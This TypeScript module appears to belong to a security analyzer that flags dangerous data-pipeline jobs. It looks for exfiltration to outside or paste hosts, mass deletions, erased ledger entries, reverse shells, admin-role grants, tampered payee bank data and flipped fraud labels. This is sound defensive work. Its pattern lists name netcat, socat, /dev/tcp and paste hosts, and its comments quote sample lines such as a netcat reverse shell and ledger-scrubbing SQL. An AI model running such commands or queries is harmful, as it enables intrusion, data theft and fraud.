/**
 * Where a data_pipeline job's records go and what it does to them, read from the job's config or code whatever its
 * engine (YAML/JSON connector configs, Spark, SQL, dbt, Airflow, plain prose):
 *  - the sink: every URL or host value the job names is a sink or a source by the nearest key or verb before it
 *    ("sink:", "destination:", "http.api.url", "to", "write" / "source:", "from", "desde", "query"), and a sink is
 *    outside when its name says so (partner, vendor, external, public, a personal store), when it is a bare public
 *    address, or when it is a host on the internet that no internal marker or name of the job's own stores claims;
 *  - a deletion whose cutoff is now or later ("event_ts < current_timestamp() + interval 1 day"): every row goes;
 *  - a book of record rewritten without one person's entries, or deduplicated down to one row per country;
 *  - a shell wired to a socket inside a step (the command analyzer's capability table decides which programs can);
 *  - a provisioning rule that maps a low-trust population onto an administrators' group;
 *  - payee or bank master data overwritten from a file on an outside host.
 * Every search starts from a literal anchor and reads a bounded window around it (linear, no open-ended gaps).
 */
import { wiredShell } from './shell-wiring.js';
import { firstIncluded as has } from './phrase-set.js';

export interface FlowEffect { readonly detail: string; readonly score: number }

/** The bounded window every reader here reads: the first 8 KB of the job. */
const jobWindow = (head: string): string => (head.length > 8192 ? head.slice(0, 8192) : head);

/** The key or verb among `words` whose occurrence ends closest to the end of `s`: its distance, or -1. */
function lastDistance(s: string, words: readonly string[]): number {
  let best = -1;
  for (const w of words) {
    const at = s.lastIndexOf(w);
    if (at >= 0 && (best < 0 || s.length - (at + w.length) < best)) best = s.length - (at + w.length);
  }
  return best;
}

const SINK_KEYS = ['sink', 'destination', 'ziel', 'destino', 'cible', 'destinazione', 'bestemming', 'doel:', 'dest:', 'dest=', 'target', 'output', 'api.url', 'endpoint', 'webhook', 'upload', 'unload', 'export', 'write', 'save', 'copy into @', ' to ', ' to:', ' into ', 'to program', '-t -', 'put ', 'push', '->', '→', 'nach ', 'auf den', 'vers ', 'hacia', 'para ', 'naar ', ' al ', ' a la ', ' au ', ' zum ', ' nel ', ' no ', 'copy', 'copiar', 'copier', 'kopier', 'copia', 'replica', 'deliver', 'send'];
const SOURCE_KEYS = ['source', 'from ', 'from:', 'input', 'read', 'query', 'conn', 'desde', 'depuis', 'von ', ' van ', ' de ', 'load', 'cargar', 'charger', 'laden', 'fetch', 'download', 'pull', 'extract', 'training_data'];
const OUTSIDE_NAMES = ['partner', 'vendor', 'extern', '-ext-', 'public', 'socio', 'parceiro', 'partenaire', 'publico', 'publique', 'personal', 'thirdparty', 'third-party', 'dropzone', 'dropbox', 'broker', 'share-out', 'outbound', 'competitor', 'agency', 'dienstleister', 'prestataire', 'proveedor', 'fornitore', 'leverancier'];
const PASTE_HOSTS = ['paste.rs', 'pastebin', 'transfer.sh', 'file.io', 'webhook.site', 'requestbin', 'ngrok', 'anonfiles', 'gofile', 'mega.nz', 'wetransfer', 'temp.sh', '0x0.st'];
const INTERNAL_MARKS = ['.internal', '.local', '.svc', '.corp', '.lan', '.intra', '.cluster', 'localhost', 'intranet', '.private', '.priv', 'internal.'];
/** Services the job's own data commonly lands in (an account of the company's, not a stranger's host). */
const OWN_SERVICES = ['bigquery', 'snowflakecomputing.com', 'redshift', 'databricks', 'amazonaws.com', 'googleapis.com', 'blob.core.windows.net', 'dfs.core.windows.net', 'splunkcloud.com', 'datadoghq', 'elastic-cloud', 'cloud.es.io', 'grafana.net', 'logs.', 'sentry.io'];
const STORE_SCHEMES = ['s3://', 's3a://', 'gs://', 'gcs://', 'abfss://', 'abfs://', 'wasbs://', 'az://', 'hdfs://', 'dbfs:/'];

export interface Sink { readonly where: string; readonly why: 'named outside' | 'paste host' | 'public address' | 'unknown host' }

/** Names the job gives its own stores (the first label of its buckets and internal hosts): "acme" in s3://acme-lake. */
function ownNames(head: string): string[] {
  const out: string[] = [];
  for (const scheme of STORE_SCHEMES) {
    for (let at = head.indexOf(scheme), n = 0; at >= 0 && n < 8 && out.length < 8; at = head.indexOf(scheme, at + scheme.length), n++) {
      const bucket = readHost(head, at + scheme.length);
      const first = bucket.split(/[-_.]/, 1)[0] ?? '';
      if (first.length >= 3 && !OUTSIDE_NAMES.some((w) => bucket.includes(w)) && !out.includes(first)) out.push(first);
    }
  }
  return out;
}

function readHost(s: string, from: number): string {
  let e = from;
  while (e < s.length && e - from < 100) {
    const c = s.charCodeAt(e);
    if (!((c >= 97 && c <= 122) || (c >= 48 && c <= 57) || c === 45 || c === 46 || c === 95)) break;
    e++;
  }
  return s.slice(from, e);
}

function isPublicIp(host: string): boolean {
  const parts = host.split('.');
  if (parts.length !== 4 || parts.some((p) => p === '' || p.length > 3 || !/^\d{1,3}$/.test(p) || Number(p) > 255)) return false;
  const [a, b] = [Number(parts[0]), Number(parts[1])];
  return !(a === 10 || a === 127 || a === 0 || (a === 192 && b === 168) || (a === 172 && b >= 16 && b < 32) || (a === 169 && b === 254) || (a === 100 && b >= 64 && b < 128));
}

/** How a sink host reads: outside by its name, a paste host, a public address, a stranger's host, or not outside (''). */
function classify(host: string, store: boolean, own: readonly string[]): Sink['why'] | '' {
  if (has(host, PASTE_HOSTS) !== '') return 'paste host';
  if (has(host, OUTSIDE_NAMES) !== '') return 'named outside';
  if (isPublicIp(host)) return 'public address';
  // a bucket or lake path is the company's own unless its name says otherwise
  if (store || !host.includes('.') || /^\d{1,3}(?:\.\d{1,3}){3}$/.test(host)) return '';
  if (has(host, INTERNAL_MARKS) !== '' || has(host, OWN_SERVICES) !== '') return '';
  if (own.some((n) => host.includes(n))) return '';
  return 'unknown host';
}

/** The first place the job sends records to that is outside the organisation, or undefined. */
export function outsideSink(head: string): Sink | undefined {
  const text = jobWindow(head);
  let own: string[] | undefined;
  for (let at = text.indexOf('://'), n = 0; at >= 0 && n < 24; at = text.indexOf('://', at + 3), n++) {
    const store = STORE_SCHEMES.some((s) => text.startsWith(s, at - s.length + 3));
    const sink = sinkAt(text, at, at + 3, store, (own ??= ownNames(text)));
    if (sink !== undefined) return sink;
  }
  // "host: sftp.partner.net", "bucket: gs://…" without a scheme
  // "target=broker.vendor.io:9093": a replication or connector target named by a key that is itself a sink word
  for (const key of ['host:', 'host =', 'server:', 'bucket:', 'bucket.name":"', 'bucket.name":', 'target=', 'target:']) {
    for (let at = text.indexOf(key), n = 0; at >= 0 && n < 4; at = text.indexOf(key, at + key.length), n++) {
      let from = at + key.length;
      while (from < text.length && from - at < key.length + 4 && (text[from] === ' ' || text[from] === '"' || text[from] === "'")) from++;
      const sink = sinkAt(text, key.startsWith('target') ? from : at, from, key.startsWith('bucket'), (own ??= ownNames(text)));
      if (sink !== undefined) return sink;
    }
  }
  return undefined;
}

function sinkAt(text: string, keyAt: number, hostAt: number, store: boolean, own: readonly string[]): Sink | undefined {
  const host = readHost(text, hostAt);
  if (host === '') return undefined;
  const before = text.slice(Math.max(0, keyAt - 80), keyAt);
  const toSink = lastDistance(before, SINK_KEYS);
  const fromSource = lastDistance(before, SOURCE_KEYS);
  if (toSink < 0 || (fromSource >= 0 && fromSource < toSink)) return undefined;
  const why = classify(host, store, own);
  if (why !== '') return { where: host, why };
  // a bucket the job's own words place in someone else's account or project ("(account 9981-external)")
  const after = text.slice(hostAt + host.length, hostAt + host.length + 80);
  const line = after.split('\n', 1)[0]!;
  return store && has(line, FOREIGN_ACCOUNT) !== '' ? { where: host, why: 'named outside' } : undefined;
}
/** Words after a sink that say it belongs to another account, project or person. */
const FOREIGN_ACCOUNT = ['external', 'extern', 'personal', 'partner', 'vendor', 'third-party', 'third party', 'other account', "someone else", 'private account'];

/** Streams, tables and columns whose records are personal, financial, health or security data. */
const SENSITIVE_RECORDS = ['payment', 'auth.', 'auth_', 'login', 'card', 'patient', 'pacient', 'pazient', 'diagnos', 'diagnós', 'claims', 'member_', 'gehält', 'nómina', 'folha de pagamento', 'ehr.', 'salar', 'payroll', 'ssn', 'passport', 'customers', 'users', 'employees', 'members', 'transactions', 'ledger', 'iban', 'email', 'phone', 'address', 'dob', 'birth', 'health', 'medical', 'hr.', 'hr_', 'personal', 'pii', 'kunden', 'patienten', 'clientes', 'clients', 'salaires', 'gehalt', 'diagnosen',
  // staff master data, tax and bank identifiers, in the languages the sinks above are read in
  'mitarbeiter', 'personalstamm', 'steuer-id', 'steuer_id', 'steuernummer', 'tax_id', 'tax id', 'bankverbindung', 'bank_account', 'bank account', 'empleados', 'salariés', 'dipendenti', 'werknemers', 'funcionários',
  // the people a business keeps records of, by the class it calls them (a stream "customer-accounts", a table
  // "pms.guests", "ils.patrons"), in the sets' languages
  'customer', 'guest', 'patron', 'student', 'pupil', 'passenger', 'visitor', 'inmate', 'tenant', 'donor', 'voter', 'applicant', 'subscriber', 'resident', 'citizen', 'player', 'athlete', 'musician',
  'kunde', 'gäste', 'gaeste', 'schüler', 'mieter', 'spender', 'bewerber', 'fahrgäste', 'mitglied', 'élève', 'étudiant', 'passager', 'locataire', 'donateur', 'adhérent',
  'huésped', 'alumno', 'estudiante', 'pasajero', 'inquilino', 'donante', 'socios', 'ospiti', 'studenti', 'passeggeri', 'inquilini', 'klanten', 'leerling', 'passagier', 'huurder', 'leden',
  // what is recorded about them: calls, places, bodies
  'call-detail', 'call_detail', 'cdr', 'biometric', 'heart-rate', 'heart_rate', 'sleep', 'location', 'geoloc', 'gps', 'genom', 'dna', 'fingerprint', 'license plate', 'licence plate', 'kennzeichen', 'matrícula'];
/**
 * Words of the list that also name a part of the system, read by where they stand: a storage "location"
 * ("checkpointLocation", "location: s3://…", "s3_location"), a software tenant ("tenant_id", "tenant_usage",
 * "multi-tenant"), a pause ("time.sleep(5)"). Each says which occurrences name people's records: a renter is
 * "tenants" or a tenant's records, ledger, leases or contacts; sleep is sleep data, sessions, stages or scores.
 */
const SYSTEM_SENSES: Readonly<Record<string, (before: string, after: string) => boolean>> = {
  // (a name run together, as written or in the folded copy, reads by its first part: "lastknownlocation", "driverlocation"
  // are people's places; "allocation", "memoryallocation", "relocation", "colocation" other words; "checkpointlocation" a
  // storage place)
  location: (before, after) => !/(?:al|re|co|col|dis|trans)$|(?:s3|output|storage|table|file|data|target|source|warehouse|checkpoint|log|default|external|bucket|install|backup)[_ -]?$/.test(before)
    && !/^s?\s?[:=('"]|^_(?:uri|url|path|prefix|dir|root)\b/.test(after),
  tenant: (before, after) => !/[a-z]$|multi-?$|per[ -]$/.test(before)
    && /^s(?![a-z])|^s?[_ -]?(?:contacts?|records?|ledger|applications?|applicants?|screening|data|details|list|leases?|rent|rents|payments?|deposits?|files?|roster|directory|info|profiles?|pii)\b/.test(after),
  sleep: (before, after) => !/[a-z]$/.test(before)
    && /^[_ -]?(?:data|sessions?|stages?|scores?|records?|logs?|tracking|tracker|metrics|events|hours|apnea|study|studies|quality|patterns?|history|diary)\b/.test(after),
};
/** The records a job carries are sensitive: the first such word, or ''. */
export function sensitiveRecords(head: string): string {
  const text = jobWindow(head);
  for (const w of SENSITIVE_RECORDS) {
    const reads = SYSTEM_SENSES[w];
    if (reads === undefined) {
      if (text.includes(w)) return w;
      continue;
    }
    for (let at = text.indexOf(w), n = 0; at >= 0 && n < 16; at = text.indexOf(w, at + w.length), n++) {
      if (reads(text.slice(Math.max(0, at - 12), at), text.slice(at + w.length, at + w.length + 16))) return w;
    }
  }
  return '';
}

/** What keeps a transfer lawful or harmless: the data made anonymous, or an agreement that covers it. */
const TRANSFER_COVER = ['sha256(', 'sha2(', 'md5(', 'hash(', 'anonymi', 'pseudonymi', 'aggregat', 'count(', ' dpa', '(dpa', 'dpa-', 'dpa:', 'data processing agreement', ' baa ', 'standard contractual', 'sccs', 'de-identif', 'deidentif', 'tokeniz'];
export const transferCovered = (head: string): boolean => has(head, TRANSFER_COVER) !== '';

// ---- deletions that reach every row -------------------------------------------------------------------------------
const NOW_WORDS = ['current_timestamp', 'now()', 'current_date', 'getdate()', 'sysdate', 'systimestamp', 'localtimestamp', 'unix_timestamp()'];
/** Columns whose value is a deadline: "expires_at < now()" picks what has expired, not everything. */
const DEADLINE_COLUMNS = ['expir', 'until', 'valid', 'end', 'ttl', 'deadline', 'due', 'retain_until', 'delete_after', 'purge_after'];
const DELETE_CONTEXT = ['delete', 'purge', 'retention', 'drop', 'expire', 'remove', 'truncate', 'cleanup', 'clean up'];

/** A deletion condition "<column> < now" (or "now + interval"): a cutoff at or after now takes every row. */
export function cutoffTakesAll(head: string): FlowEffect | undefined {
  const text = jobWindow(head);
  if (has(text, DELETE_CONTEXT) === '') return undefined;
  for (const w of NOW_WORDS) {
    for (let at = text.indexOf(w), n = 0; at >= 0 && n < 8; at = text.indexOf(w, at + w.length), n++) {
      const before = text.slice(Math.max(0, at - 48), at);
      const lt = before.lastIndexOf('<');
      if (lt < 0 || before.slice(lt + 1).trim() !== '' && before.slice(lt + 1).trim() !== '=') continue;
      // the column compared: the word before "<"
      const col = before.slice(0, lt).trimEnd().split(/[\s(,]/).pop() ?? '';
      if (col === '' || has(col, DEADLINE_COLUMNS) !== '') continue;
      let i = at + w.length;
      while (i < text.length && i - at - w.length < 4 && (text[i] === ')' || text[i] === '(' || text[i] === ' ')) i++;
      if (text[i] === '-') continue;
      return { detail: `${col} < ${w}${text[i] === '+' ? ' + an interval' : ''}: the cutoff is now or later, every row matches`, score: 8 };
    }
  }
  return undefined;
}

// ---- records of one person taken out of a book of record ----------------------------------------------------------
/** Columns that say who entered or approved a record. */
const ACTOR_COLUMNS = ['posted_by', 'created_by', 'entered_by', 'approved_by', 'modified_by', 'updated_by', 'booked_by', 'author', 'actor', 'operator', 'performed_by', 'initiated_by', 'employee_id', 'user_id', 'userid', 'username', 'submitted_by'];
const BOOKS = ['ledger', 'gl_', 'journal', 'audit', 'finance', 'payments', 'transactions', 'expense', 'payroll', 'invoices', 'access_log', 'events'];
const EXCLUDE_OPS = ['<>', '!=', ' not in', ' not like', '= ', "='"];

/** "INSERT OVERWRITE TABLE books SELECT * FROM books WHERE posted_by <> 'u-771'", "DELETE FROM audit.events WHERE user_id = 'x'". */
export function entriesOfOneRemoved(head: string): FlowEffect | undefined {
  const text = jobWindow(head);
  const where = text.indexOf(' where ');
  if (where < 0) return undefined;
  const cond = text.slice(where + 7, where + 7 + 160);
  const actor = has(cond, ACTOR_COLUMNS);
  if (actor === '') return undefined;
  const after = cond.slice(cond.indexOf(actor) + actor.length, cond.indexOf(actor) + actor.length + 12);
  const stmt = text.slice(Math.max(0, where - 200), where);
  const overwrite = stmt.lastIndexOf('insert overwrite');
  const del = stmt.lastIndexOf('delete from');
  if (overwrite >= 0) {
    // the table is rewritten from itself minus the rows one actor wrote
    const target = readHost(stmt, stmt.indexOf('table', overwrite) + 6);
    const from = stmt.indexOf(' from ', overwrite);
    const source = from < 0 ? '' : readHost(stmt, from + 6);
    if (target === '' || source !== target || !(after.includes('<>') || after.includes('!=') || after.includes('not in'))) return undefined;
    if (has(target, BOOKS) === '') return undefined;
    return { detail: `${target} rewritten without the rows ${actor} names`, score: 8 };
  }
  if (del >= 0) {
    const table = readHost(stmt, del + 12);
    if (has(table, BOOKS) === '' || has(table, ['test', 'tmp', 'staging', 'stg_', 'scratch', 'sandbox']) !== '' || has(after, EXCLUDE_OPS) === '') return undefined;
    return { detail: `${table} entries of one ${actor} deleted`, score: 8 };
  }
  return undefined;
}

/** Grouping keys too coarse to be a duplicate's identity: a dedupe on them keeps one row per country. */
const COARSE_KEYS = ['country', 'region', 'state', 'city', 'status', 'type', 'category', 'segment', 'plan', 'gender', 'year', 'month', 'land', 'pais', 'pays'];

/** "DELETE … WHERE id NOT IN (SELECT max(id) … GROUP BY country)": a dedupe that deletes all but one row per group. */
export function dedupeTooCoarse(head: string): FlowEffect | undefined {
  const text = jobWindow(head);
  const del = text.indexOf('delete from');
  if (del < 0) return undefined;
  const notIn = text.indexOf('not in', del);
  if (notIn < 0 || notIn - del > 200) return undefined;
  const group = text.indexOf('group by', notIn);
  if (group < 0 || group - notIn > 160) return undefined;
  const keys = text.slice(group + 8, group + 8 + 60).split(')', 1)[0]!.split(',').map((k) => k.trim());
  if (keys.length === 0 || !keys.every((k) => COARSE_KEYS.some((c) => k === c || k.endsWith(`.${c}`) || k.endsWith(`_${c}`)))) return undefined;
  return { detail: `deduplicated by ${keys.join(', ')}: all but one row per ${keys[0]} deleted`, score: 8 };
}

// ---- a shell inside a step ------------------------------------------------------------------------------------------
const SHELL_ANCHORS = ['/dev/tcp', '/dev/udp', 'nc -e', 'ncat -e', 'nc -c', 'socat', 'mkfifo', 'bash -i', 'sh -i', 'socket.socket', 'pty.spawn', 's_client'];
const STEP_PROGRAMS = ['bash', 'sh', 'nc', 'ncat', 'netcat', 'socat', 'python3', 'python', 'perl', 'php', 'ruby', 'node', 'openssl', 'powershell'];

/** A step whose command wires a shell to a socket (reverse or bind shell). */
export function shellInStep(head: string): FlowEffect | undefined {
  const text = head.length > 16384 ? head.slice(0, 16384) : head;
  if (has(text, SHELL_ANCHORS) === '') return undefined;
  const programs = STEP_PROGRAMS.filter((p) => text.includes(`${p} `) || text.includes(`/${p}`) || text.includes(`'${p}`) || text.includes(`"${p}`));
  const w = wiredShell(text, programs);
  if (w === null) {
    // netcat handing a shell to the host it connects to: "nc -e /bin/sh 45.9.148.3 4444"
    const nc = has(text, ['nc -e ', 'ncat -e ', 'nc -c ', 'netcat -e ', 'ncat --exec ', 'ncat --sh-exec ']);
    const at = nc === '' ? -1 : text.indexOf(nc) + nc.length;
    if (at < 0 || has(text.slice(at, at + 24), ['/bin/', 'sh', 'bash', 'cmd']) === '') return undefined;
    return { detail: `${nc.trim()} hands a shell to a remote host inside a step`, score: 9 };
  }
  return { detail: `${w.kind === 'listen' ? 'bind' : 'reverse'} shell (${w.socketWord.trim()} with ${w.execWord.trim()}) run by ${w.program} inside a step`, score: 9 };
}

// ---- a population mapped onto administrators ----------------------------------------------------------------------
const ADMIN_GROUPS = ['admins', 'administrator', 'admin', 'owner', 'superuser', 'super_user', 'root', 'domain admins', 'global admin', 'org_admin'];
const LOW_TRUST = ['intern', 'contractor', 'guest', 'temp', 'external', 'vendor', 'freelancer', 'everyone', 'all users', 'all employees', 'praktikant', 'stagiaire', 'becario'];
/** Wildcards that select every account. */
const EVERYONE = ["'%'", '"%"', "like '%%'", '= *', ': *', '= "*"', "= '*'"];
/** How a provisioning rule writes "maps onto": an arrow, or an assignment key. */
const MAPPING_WORDS = ['->', '→', '=>', 'assign_role', 'assign role', 'assign_group', 'okta_group', 'group:', 'role:', 'groups:', 'roles:', 'mapping', 'add_to_group'];

/** The first of `words` that stands as a word of its own in `s` (a plural "s" allowed: "Interns"), or ''. */
function wordIn(s: string, words: readonly string[]): string {
  for (const w of words) {
    for (let at = s.indexOf(w), n = 0; at >= 0 && n < 8; at = s.indexOf(w, at + w.length), n++) {
      const before = at > 0 ? s.charCodeAt(at - 1) : 32;
      let end = at + w.length;
      if (s[end] === 's') end++;
      const after = end < s.length ? s.charCodeAt(end) : 32;
      if (!isLetter(before) && !isLetter(after)) return w;
    }
  }
  return '';
}
const isLetter = (c: number): boolean => (c >= 97 && c <= 122) || (c >= 48 && c <= 57) || c === 95;

/** A provisioning or role-sync rule that puts a low-trust population into an administrators' group. */
export function populationToAdmins(head: string): FlowEffect | undefined {
  const text = jobWindow(head);
  if (has(text, MAPPING_WORDS) === '') return undefined;
  for (const g of ADMIN_GROUPS) {
    for (let at = text.indexOf(g), n = 0; at >= 0 && n < 8; at = text.indexOf(g, at + g.length), n++) {
      // the rule that maps onto the group stands before it, on its line or the lines just before
      const rule = text.slice(Math.max(0, at - 120), at);
      if (has(rule, MAPPING_WORDS) === '') continue;
      const who = wordIn(rule, LOW_TRUST) || has(rule, EVERYONE);
      if (who === '' || wordIn(text.slice(at, at + g.length + 2), [g]) === '') continue;
      return { detail: `${who.replace(/['"]/g, '').trim() || 'everyone'} mapped onto ${g}`, score: 8 };
    }
  }
  return undefined;
}

// ---- payee master data from an outside file -------------------------------------------------------------------------
const PAYEE_TABLES = ['vendor', 'supplier', 'payee', 'beneficiar', 'bank_account', 'bank account', 'proveedor', 'fournisseur', 'lieferant', 'fornitor', 'leverancier', 'creditor', 'kreditor'];
const BANK_WORDS = ['iban', 'bank', 'routing', 'account_number', 'swift', 'bic', 'banc', 'konto'];
const OVERWRITE_WORDS = ['overwrite', 'sobrescrib', 'écras', 'ecras', 'überschreib', 'sovrascriv', 'overschrijf', 'replace', 'reemplaz', 'remplac', 'ersetz', 'truncate', 'upsert', 'merge into', 'copy ', '\\copy', 'load data'];
const REVIEW_WORDS = ['staging', 'stg_', 'review', 'validation', 'validación', 'validação', 'prüfung', 'approval', 'approved', 'quarantine', 'manual'];

/** Payee or bank master data replaced from a file fetched from an outside host. */
export function payeesFromOutside(head: string): FlowEffect | undefined {
  const text = jobWindow(head);
  if (!text.includes('://')) return undefined;
  const table = has(text, PAYEE_TABLES);
  if (table === '' || has(text, BANK_WORDS) === '' || has(text, OVERWRITE_WORDS) === '' || has(text, REVIEW_WORDS) !== '') return undefined;
  let own: string[] | undefined;
  for (let at = text.indexOf('://'), n = 0; at >= 0 && n < 8; at = text.indexOf('://', at + 3), n++) {
    const host = readHost(text, at + 3);
    const why = classify(host, STORE_SCHEMES.some((s) => text.startsWith(s, at - s.length + 3)), (own ??= ownNames(text)));
    if (why !== '') return { detail: `${table} bank data overwritten from ${host} (${why})`, score: 8 };
  }
  return undefined;
}

// ---- labels flipped from the harmful class to the harmless one ----------------------------------------------------
const HARMFUL = ['fraud', 'spam', 'toxic', 'malicious', 'abusive', 'phishing', 'scam', 'malware', 'default', 'chargeback'];
const HARMLESS = ['legit', 'legitimate', 'ham', 'benign', 'clean', 'not_fraud', 'non_fraud', 'genuine', 'safe', 'normal'];
const LABEL_COLUMNS = ['label', 'is_fraud', 'is_spam', 'target', 'class', 'ground_truth', 'y_true', 'outcome', 'verdict'];
const ASSIGNS = ['set ', '.loc[', '.replace(', '.map(', 'relabel', 'update '];

/** Where `word` stands in quotes in `s`, or -1. */
function quotedAt(s: string, word: string): number {
  const a = s.indexOf(`'${word}'`);
  const b = s.indexOf(`"${word}"`);
  return a < 0 ? b : b < 0 ? a : Math.min(a, b);
}

/** The quoted word after the first "=" at or after `from` (within a few characters), or ''. */
function assignedValue(s: string, from: number): string {
  const eq = s.indexOf('=', from);
  if (eq < 0 || eq - from > 6) return '';
  let i = eq + 1;
  while (i < s.length && i - eq < 4 && (s[i] === ' ' || s[i] === '=')) i++;
  const q = s[i];
  if (q !== "'" && q !== '"') return '';
  const end = s.indexOf(q, i + 1);
  return end < 0 || end - i > 24 ? '' : s.slice(i + 1, end);
}

/** "UPDATE train SET label = 'legit' WHERE label = 'fraud'": training labels moved from the harmful class to the harmless one. */
export function labelsFlipped(head: string): FlowEffect | undefined {
  const text = jobWindow(head);
  for (const a of ASSIGNS) {
    for (let at = text.indexOf(a), n = 0; at >= 0 && n < 8; at = text.indexOf(a, at + a.length), n++) {
      const stmt = text.slice(at, at + 200);
      const col = has(stmt, LABEL_COLUMNS);
      if (col === '') continue;
      const bad = HARMFUL.find((w) => quotedAt(stmt, w) >= 0);
      if (bad === undefined) continue;
      // the new value: after "label =" in SQL, after "] =" in pandas; a replace or map goes from the first to the second
      let value = '';
      if (a === 'set ' || a === 'update ') value = assignedValue(stmt, stmt.indexOf(col) + col.length);
      else if (a === '.loc[') value = assignedValue(stmt, stmt.indexOf(']') + 1);
      else {
        const good = HARMLESS.find((w) => quotedAt(stmt, w) >= 0);
        if (good !== undefined && quotedAt(stmt, bad) < quotedAt(stmt, good)) value = good;
      }
      if (value === '' || !HARMLESS.includes(value)) continue;
      return { detail: `${col} changed from ${bad} to ${value}`, score: 8 };
    }
  }
  return undefined;
}

/**
 * The job's own config switches masking on ("masking:\n  enabled: true", "pii_masking: {enabled: true, …}",
 * "hashing: enabled: yes"): the personal columns leave hashed, dropped or tokenised, as the job itself says (a value
 * set to false, off or no switches nothing on).
 */
const MASK_CONFIG = /(?:^|[\s{,"'])["']?(?:pii_?masking|data_?masking|column_?masking|masking|hashing|pseudonymi[sz]ation|anonymi[sz]ation|tokeni[sz]ation)["']?\s?:\s{0,24}\{?\s?["']?enabled["']?\s?:\s?["']?(?:true|yes|on)\b/;
/** The masking block lists what it masks: its columns or fields. */
const MASK_LIST = /\b(?:columns|fields|targets|attributes)["']?\s?:\s?\[([^\]\n]{0,200})\]/;
/** The block runs in a mode that masks nothing (audit, log, report, dry run, preview, pass-through). */
const MASK_IDLE = /\b(?:mode|action|strategy|method)["']?\s?:\s?["']?(?:audit|log|report|monitor|preview|dry|none|off|disabled|pass)/;
/** Masking said to be off anywhere in the job (a comment or a key of its own). */
const MASK_SAID_OFF = /\b(?:masking|hashing|redaction|tokeni[sz]ation)(?: is| was)? (?:disabled|off|not applied|turned off|skipped|bypassed|waived)\b/;
/** A personal column among those the block masks. */
const PERSONAL_COLUMN = /\b(?:e-?mails?|phones?|mobile|ssn|sin|dob|birth\w{0,6}|(?:full_|first_|last_|sur)?names?|address\w{0,4}|diagnos\w{0,4}|salar\w{1,4}|bank\w{0,8}|iban|card\w{0,8}|pan|passport\w{0,4}|tax_?id|national_?id|patient\w{0,4}|mrn|ip_?address|pii|\*)\b/;
/**
 * The job's own config switches masking on for the personal columns: a masking key (not another word's: "log-masking")
 * set to enabled, in no idle mode, with no column list that leaves every personal column out ("columns: []",
 * "columns: [notes]"), and masking nowhere said to be off.
 */
export const maskingConfigured = (head: string): boolean => {
  // every MASK_CONFIG match holds 'enabled': without it nothing is switched on (its opening class, a space among them,
  // was tried at every space of a prose text)
  if (!head.includes('enabled') || MASK_SAID_OFF.test(head)) return false;
  // every masking key the job sets: one that masks nothing personal ("columns: []" under a second key) is not outvoted
  let on = false;
  for (const m of head.matchAll(MASK_CONFIGS)) {
    // the block after the key, as far as its settings go
    const block = head.slice(m.index + m[0].length, m.index + m[0].length + 200);
    const list = MASK_LIST.exec(block);
    if (MASK_IDLE.test(block) || (list !== null && !PERSONAL_COLUMN.test(list[1]!))) return false;
    on = true;
  }
  return on;
};
const MASK_CONFIGS = new RegExp(MASK_CONFIG.source, 'g');

export const PIPELINE_FLOW_PATTERNS: readonly RegExp[] = [/[-_.]/, /^\d{1,3}$/, /^\d{1,3}(?:\.\d{1,3}){3}$/, /[\s(,]/, /['"]/g, MASK_CONFIG, MASK_LIST, MASK_IDLE, MASK_SAID_OFF, PERSONAL_COLUMN];
